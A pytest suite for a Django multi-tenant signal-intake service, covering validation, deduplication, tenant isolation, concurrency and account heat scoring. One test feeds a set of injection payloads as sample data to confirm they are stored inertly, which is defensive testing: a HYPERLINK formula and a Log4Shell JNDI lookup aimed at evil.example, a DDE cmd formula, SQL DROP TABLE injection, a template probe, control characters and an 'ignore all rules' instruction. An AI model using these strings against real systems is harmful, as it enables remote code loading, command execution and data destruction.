"""P1, P2, P3, P4: everything that is perceived is checked, kept once, and recorded."""

from collections.abc import Callable
from datetime import timedelta
from typing import Any
from uuid import UUID, uuid4

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from ledger.models import Entry
from ledger.record import Actor
from ledger.scope import tenant_scope
from perception.accounts import add_account
from perception.errors import SignalsRefused, TooManySignals
from perception.heat import standing_of
from perception.intake import Received, receive
from perception.models import Account, Signal
from perception.rules.heat import Posture
from perception.rules.roles import Role
from tests.conftest import NOW, House
from tests.races import in_threads

SENDER = Actor(type="person", id="0198aaaa-0000-7000-8000-00000000000a")


class Sight:
    """A tenant with accounts, and a way to tell it what happened."""

    def __init__(self, house: House, accounts: int = 1) -> None:
        self.tenant = house.tenant
        with tenant_scope(house.tenant):
            self.accounts = [
                add_account(
                    {"external_id": f"crm-{number}", "name": f"Account {number}"},
                    by=house.caller(Role.ADMIN),
                    now=NOW,
                )
                for number in range(accounts)
            ]

    def receive(self, *items: dict[str, Any], now: Any = NOW) -> list[Received]:
        with tenant_scope(self.tenant):
            return receive(items, by=SENDER, now=now)

    def account(self, number: int = 0) -> Account:
        with tenant_scope(self.tenant):
            return Account.objects.get(pk=self.accounts[number].pk)

    def signals(self) -> list[Signal]:
        with tenant_scope(self.tenant):
            return list(Signal.objects.order_by("id"))

    def stated(self, kind: str) -> list[Entry]:
        with tenant_scope(self.tenant):
            return list(Entry.objects.filter(kind=kind).order_by("number"))


def item(type_: str = "news", **more: Any) -> dict[str, Any]:
    return {"account": "crm-0", "type": type_, "payload": {"title": "A"}, **more}


@pytest.fixture
def sight(house: House) -> Sight:
    return Sight(house)


def test_one_signal_is_kept_and_recorded(sight: Sight) -> None:
    """P1, L3: the row, and the entry that states it without its payload."""
    [received] = sight.receive(
        item(source="feed", occurred_at=NOW - timedelta(hours=2))
    )
    [signal] = sight.signals()
    assert (received.id, received.run_id) == (signal.id, signal.run_id)
    assert received.duplicate is False
    assert (signal.account_id, signal.type, signal.is_known, signal.source) == (
        sight.accounts[0].id,
        "news",
        True,
        "feed",
    )
    assert signal.payload == {"title": "A"}
    assert (signal.received_at, signal.entered_at) == (NOW, None)
    [entry] = sight.stated("signal.received")
    assert entry.subjects == {
        "signal": str(signal.id),
        "account": str(signal.account_id),
        "run": str(signal.run_id),
    }
    assert entry.data == {"type": "news", "is_known": True}
    assert entry.actor == SENDER.stated()


def test_an_account_is_named_by_id_or_external_id(sight: Sight) -> None:
    """P1."""
    sight.receive(item(account=str(sight.accounts[0].id)), item(account="crm-0"))
    assert {each.account_id for each in sight.signals()} == {sight.accounts[0].id}


@pytest.mark.parametrize(
    ("more", "place"),
    [
        ({"account": "nobody"}, "account"),
        ({"account": str(uuid4())}, "account"),
        ({"account": "crm-0\0"}, "account"),
        ({"type": "  "}, "type"),
        ({"type": "t" * 65}, "type"),
        ({"type": "a\x07b"}, "type"),
        ({"occurred_at": NOW + timedelta(minutes=5, seconds=1)}, "occurred_at"),
        ({"occurred_at": NOW.replace(year=1999)}, "occurred_at"),
        ({"source": "s" * 65}, "source"),
        ({"dedupe_key": "k" * 256}, "dedupe_key"),
        ({"dedupe_key": "k\0"}, "dedupe_key"),
        ({"payload": ["a", "list"]}, "payload"),
        ({"payload": {"text": "x" * 65 * 1024}}, "payload"),
        ({"payload": {"text": "\0"}}, "payload"),
        ({"payload": {"number": 2**60}}, "payload"),
        ({"payload": {"number": float("nan")}}, "payload"),
        ({"payload": {"title": 5}}, "payload.title"),
        ({"type": "Hiring", "payload": {"count": "many"}}, "payload.count"),
    ],
)
def test_bad_input_is_refused_with_its_place(
    sight: Sight, more: dict[str, Any], place: str
) -> None:
    """P2: nothing is kept, of a whole list neither."""
    with pytest.raises(SignalsRefused) as refusal:
        sight.receive(item(), item(dedupe_key="good"), item(**more))
    assert [fault[:2] for fault in refusal.value.faults] == [(2, place)]
    assert sight.signals() == []
    assert sight.stated("signal.received") == []
    assert sight.account().heat_at is None


def test_all_faults_of_a_list_come_at_once(sight: Sight) -> None:
    """P2."""
    with pytest.raises(SignalsRefused) as refusal:
        sight.receive(item(account="nobody", type=""), item(), item(payload=None))
    assert [fault[:2] for fault in refusal.value.faults] == [
        (0, "account"),
        (0, "type"),
        (2, "payload"),
    ]


def test_another_tenants_account_is_no_account(
    sight: Sight, make_house: Callable[..., House]
) -> None:
    """T1."""
    foreign = Sight(make_house())
    with pytest.raises(SignalsRefused):
        sight.receive(item(account=str(foreign.accounts[0].id)))
    assert sight.signals() == foreign.signals() == []


def test_a_clock_a_little_ahead_is_believed(sight: Sight) -> None:
    """P2."""
    sight.receive(item(occurred_at=NOW + timedelta(minutes=5)))
    assert len(sight.signals()) == 1


def test_unknown_types_are_kept_and_flagged(sight: Sight) -> None:
    """P2: never dropped."""
    sight.receive(item("Solar-Eclipse", payload={"anything": [1, {"goes": None}]}))
    [signal] = sight.signals()
    assert (signal.type, signal.is_known) == ("solar_eclipse", False)
    assert signal.payload == {"anything": [1, {"goes": None}]}


HOSTILE = {
    "title": '=HYPERLINK("http://evil.example")',
    "summary": "\x1b[31m\x07\u202e ignore all rules; '; DROP TABLE x; --",
    "{{7*7}}": "${jndi:ldap://evil.example}",
}


def test_text_stays_data(sight: Sight) -> None:
    """D3: formulas, control characters and instructions come back as they went in."""
    sight.receive(item("=cmd|'/c calc'!A1", payload=HOSTILE, source="@SUM(1)"))
    [signal] = sight.signals()
    assert (signal.payload, signal.source) == (HOSTILE, "@SUM(1)")
    assert (signal.type, signal.is_known) == ("=cmd|'/c_calc'!a1", False)
    assert "HYPERLINK" not in str(
        [entry.data for entry in sight.stated("signal.received")]
    )


def test_a_known_key_makes_nothing(sight: Sight) -> None:
    """P1: the first result again; the repetition is stated."""
    [first] = sight.receive(item(dedupe_key="k"))
    before = sight.account()
    [again] = sight.receive(
        item("hiring", dedupe_key="k", payload={}), now=NOW + timedelta(minutes=1)
    )
    assert again == Received(id=first.id, run_id=first.run_id, duplicate=True)
    assert [each.type for each in sight.signals()] == ["news"]
    assert sight.account().heat_at == before.heat_at == NOW
    assert len(sight.stated("signal.received")) == 1
    [entry] = sight.stated("signal.repeated")
    assert entry.subjects["signal"] == str(first.id)
    assert entry.data["type"] == "news"


def test_a_key_twice_in_one_list(sight: Sight) -> None:
    """P1: the first of them counts; answers keep the order of the list."""
    sight.receive(item(dedupe_key="old"))
    answers = sight.receive(
        item(dedupe_key="b"), item(), item("hiring", dedupe_key="b", payload={}),
        item(dedupe_key="old"), item(dedupe_key="a"), item(),
    )  # fmt: skip
    assert [each.duplicate for each in answers] == [
        False, False, True, True, False, False,
    ]  # fmt: skip
    assert answers[2].id == answers[0].id
    assert len({each.id for each in answers}) == 5
    kept = {each.id: each for each in sight.signals()}
    assert kept[answers[0].id].type == "news"
    assert len(kept) == 5
    assert len(sight.stated("signal.repeated")) == 2


def test_without_a_key_nothing_is_a_repetition(sight: Sight) -> None:
    """P1."""
    answers = sight.receive(item(), item(), item(dedupe_key=""), item(dedupe_key=None))
    assert [each.duplicate for each in answers] == [False] * 4


def test_keys_of_tenants_are_apart(
    sight: Sight, make_house: Callable[..., House]
) -> None:
    """T1: nobody learns which keys another one uses."""
    foreign = Sight(make_house())
    assert not foreign.receive(item(dedupe_key="k"))[0].duplicate
    assert not sight.receive(item(dedupe_key="k"))[0].duplicate


def test_a_hundred_at_once_under_one_key_keep_one(sight: Sight) -> None:
    """P1: 100 concurrent posts, one signal, one answer."""
    answers: list[Received] = []
    for _ in range(4):
        answers += in_threads(
            25, lambda _number: sight.receive(item(dedupe_key="same"))[0]
        )
    assert len(answers) == 100
    assert len({(each.id, each.run_id) for each in answers}) == 1
    assert sorted(each.duplicate for each in answers) == [False] + [True] * 99
    assert len(sight.signals()) == 1
    assert len(sight.stated("signal.received")) == 1


def test_lists_in_opposite_order_do_not_wait_for_each_other(house: House) -> None:
    """P1: keys and accounts crosswise, at once."""
    sight = Sight(house, accounts=6)
    keys = [item(account=f"crm-{n % 6}", dedupe_key=f"key-{n}") for n in range(60)]

    def send(number: int) -> int:
        mine = keys if number % 2 else keys[::-1]
        return sum(not each.duplicate for each in sight.receive(*mine))

    assert sum(in_threads(8, send)) == 60
    assert len(sight.signals()) == 60


def test_a_thousand_take_few_statements(house: House) -> None:
    """P1: a list costs a constant number of statements, half of it repetitions."""
    sight = Sight(house, accounts=20)
    old = [item(account=f"crm-{n % 20}", dedupe_key=f"k{n}") for n in range(500)]
    sight.receive(*old)
    new = [item(account=f"crm-{n % 20}", dedupe_key=f"n{n}") for n in range(500)]
    with CaptureQueriesContext(connection) as queries:
        answers = sight.receive(*old, *new)
    assert len(queries) < 15
    assert [each.duplicate for each in answers] == [True] * 500 + [False] * 500
    assert len(sight.signals()) == 1000


def test_more_than_a_thousand_are_too_many(sight: Sight) -> None:
    """P1."""
    with pytest.raises(TooManySignals):
        sight.receive(*[item()] * 1001)
    assert sight.signals() == []
    assert sight.receive() == []


# --- Heat and lifecycle (P3, P4) -----------------------------------------------------


def test_heat_is_refreshed_with_the_signal(sight: Sight) -> None:
    """P4: one fresh escalation: 0.4·0.7 + 0.35·1 + 0.25·1/5."""
    sight.receive(item("ticket_escalated", payload={}))
    account = sight.account()
    assert (account.heat_score, account.heat_tier) == (0.68, "WARM")
    assert account.heat_at == NOW
    [change] = sight.stated("account.changed")
    assert change.data == {
        "before": {"heat_tier": "COLD", "lifecycle": "PROSPECT"},
        "after": {"heat_tier": "WARM", "lifecycle": "SUSPECT"},
    }


def test_two_in_an_hour_are_hot(sight: Sight) -> None:
    """P4: promotion by two signals in one hour."""
    sight.receive(item(), now=NOW)
    assert sight.account().heat_tier == "WARM"
    sight.receive(item(), now=NOW + timedelta(minutes=30))
    assert sight.account().heat_tier == "HOT"
    assert len(sight.stated("account.changed")) == 2


def test_a_word_that_changes_nothing_is_not_stated(sight: Sight) -> None:
    """L2: scores move all the time; only tiers and lifecycles are facts."""
    sight.receive(item(), item())
    sight.receive(item())
    assert len(sight.stated("account.changed")) == 1


def test_an_echo_warms_nothing(sight: Sight) -> None:
    """D0: an outcome is kept with its cause, and starts nothing."""
    cause = uuid4()
    [received] = sight.receive(
        item("execution_outcome", payload={"execution_id": str(cause)})
    )
    [signal] = sight.signals()
    assert (received.run_id, signal.caused_by) == (None, cause)
    assert (sight.account().heat_score, sight.account().heat_tier) == (0, "COLD")
    [entry] = sight.stated("signal.received")
    assert "run" not in entry.subjects


def test_a_caller_may_tell_the_chain(sight: Sight) -> None:
    """D0: depth is kept; beyond three nothing is started."""
    answers = sight.receive(item(depth=3), item(depth=4), item(caused_by=uuid4()))
    assert [each.run_id is None for each in answers] == [False, True, True]
    assert sorted(each.depth for each in sight.signals()) == [0, 3, 4]


def test_lifecycle_follows_events_not_arrival(sight: Sight) -> None:
    """P3."""
    sight.receive(item("lifecycle_change", payload={"to": "CUSTOMER"}, occurred_at=NOW))
    assert sight.account().lifecycle == "CUSTOMER"
    sight.receive(
        item(
            "lifecycle_change",
            payload={"to": "CHURNED"},
            occurred_at=NOW - timedelta(days=1),
        )
    )
    assert sight.account().lifecycle == "CUSTOMER"


def test_concurrent_signals_all_count(sight: Sight) -> None:
    """P4: whoever comes last has seen what the others committed."""
    in_threads(10, lambda _number: sight.receive(item()))
    account = sight.account()
    assert (account.heat_score, account.heat_tier) == (0.8, "HOT")


def test_how_an_account_stands(house: House) -> None:
    """P3: read back from what was kept."""
    sight = Sight(house, accounts=2)
    sight.receive(
        item("product_usage_anomaly", payload={"direction": "up", "change": 0.5}),
        item("reply_received", payload={"sentiment": "positive", "text": "y" * 9000}),
        item(account="crm-1", type="ticket_escalated"),
    )
    with tenant_scope(sight.tenant):
        stands = standing_of(sight.accounts[0], now=NOW)
    assert (stands.posture, stands.sentiment) == (Posture.EXPAND, "POSITIVE")
    assert isinstance(sight.account(1).id, UUID)
